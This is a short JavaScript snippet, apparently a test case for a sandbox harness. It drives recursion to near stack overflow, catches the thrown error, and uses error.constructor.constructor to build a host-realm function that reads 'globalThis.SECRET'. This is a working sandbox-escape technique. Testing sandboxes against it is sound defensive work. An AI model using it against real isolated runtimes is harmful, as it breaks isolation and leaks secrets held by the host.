let depth = 0;
function own(rest) {
  depth += 1;
  if (rest > 0) own(rest - 1);
  else new Error('own').stack;
}
const within = (rest) => {
  try {
    own(rest);
  } catch (error) {
    return error.constructor.constructor('return globalThis.SECRET')();
  }
};
at_step();
let found = within(1e6);  // step
const bottom = depth;  // step
for (let less = 1; less < 60 && !found; less += 1) found = within(bottom - less);  // step
past_step();
emit(found);  // step
